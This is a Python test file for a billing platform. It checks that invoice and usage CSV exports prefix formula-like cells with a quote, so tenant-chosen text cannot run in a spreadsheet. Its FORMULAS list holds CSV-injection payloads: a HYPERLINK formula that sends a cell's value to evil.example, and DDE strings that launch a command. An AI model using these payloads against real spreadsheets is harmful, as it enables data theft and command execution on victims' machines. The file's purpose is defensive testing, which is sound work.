"""CSV exports never hand a spreadsheet a formula (CSV injection), whatever a tenant typed.

A tenant reports usage through the ingest API with a region it chooses; that text lands on its
invoice lines, and finance opens the invoice CSV in a spreadsheet. Model names reach the usage
CSV (``@cf/...`` is a real naming scheme). Every text cell that a spreadsheet would run
(``=``, ``+``, ``-``, ``@``, tab, carriage return) comes out prefixed with a quote; computed
numbers (a negative credit line) stay numbers, so the amounts still sum.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from billing_platform.accounts.choices import Role
from billing_platform.invoicing import services
from billing_platform.invoicing.models import Invoice
from metering import events
from metering import services as metering_services
from plans import services as plan_services
from tests.factories import (
    MembershipFactory,
    UserFactory,
    make_billed_org,
    make_key,
    make_price_book,
)
from tests.invoicing import conftest as invoicing_fixtures
from tests.invoicing.conftest import NOV, OCT

catalog = invoicing_fixtures.catalog  # the payment and document tests' priced catalogue

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
]  # (a leading tab or CR is trimmed by the API; the writer quotes those as well)


def _cells(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_invoice_csv_never_carries_a_formula_a_tenant_chose(catalog, api_client, client):
    # given a tenant that reports usage for regions named like formulas, through the API
    org = make_billed_org(name="Injector")
    _, secret = make_key(org.projects.first(), scopes=["inference", "admin"])
    body = {"events": [{"id": f"inj-{i}", "model": "m-small", "region": region,
                        "prompt_tokens": 1_000_000, "completion_tokens": 1_000,
                        "event_time": (OCT + timedelta(days=1)).isoformat()}
                       for i, region in enumerate(FORMULAS)]}
    reply = api_client.post("/api/v1/usage/events", body, format="json",
                            HTTP_AUTHORIZATION=f"Bearer {secret}")
    assert reply.status_code == 200 and reply.json()["recorded"] == len(FORMULAS), reply.json()
    plan_services.credit_grant_create(organization=org, kind="promotional", amount="0.50",
                                      granted_at=OCT)
    services.period_close_run(now=NOV + timedelta(hours=1), enqueue_payments=False)
    invoice = Invoice.objects.get(organization=org)

    # when finance downloads the invoice CSV (API and console)
    finance = UserFactory()
    MembershipFactory(user=finance, organization=org, role=Role.FINANCE)
    api_client.force_authenticate(finance)
    api_csv = api_client.get(
        f"/api/v1/organizations/{org.public_id}/invoices/{invoice.public_id}/csv/")
    client.force_login(finance)
    console_csv = client.get(f"/console/invoices/{invoice.public_id}/csv/",
                             {"org": org.public_id})

    # then every region cell is text, not a formula, and the amounts still sum to the total
    for reply in (api_csv, console_csv):
        assert reply.status_code == 200
        rows = _cells(reply.content)
        regions = {r["region"] for r in rows if r["kind"] == "usage"}
        assert regions == {"'" + region for region in FORMULAS}
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
        amounts = [Decimal(r["amount"]) for r in rows]
        assert min(amounts) < 0  # the credit line: a negative number stays a number
        assert sum(amounts) == invoice.total


@pytest.mark.django_db(transaction=True)
def test_usage_csv_never_carries_a_formula(client):
    # given usage of a model whose name starts with "@" (and one with "=")
    make_price_book(prices=[{"model": "@cf/meta/llama-3-8b", "input": "1.00", "output": "2.00"},
                            {"model": "=1+1", "input": "1.00", "output": "2.00"}])
    member = MembershipFactory()
    org = member.organization
    project = org.projects.create(name="Default project")
    for i, model in enumerate(("@cf/meta/llama-3-8b", "=1+1")):
        event = {"request_id": f"u{i}", "org_id": org.id, "project_id": project.id,
                 "model": model, "region": "us-east", "event_time": datetime.now(UTC),
                 "prompt_tokens": 1000, "cached_tokens": 0, "completion_tokens": 10}
        assert metering_services.usage_events_record([events.normalize(event)],
                                                     origin="test").recorded
    client.force_login(member.user)

    # when the member exports the month's usage
    # (streamed: the explorer's CSV is generated row by row)
    rows = _cells(b"".join(client.get("/console/usage/?format=csv").streaming_content))

    # then the model cells are text
    assert {r["model"] for r in rows} == {"'@cf/meta/llama-3-8b", "'=1+1"}
    assert sum(int(r["requests"]) for r in rows) == 2
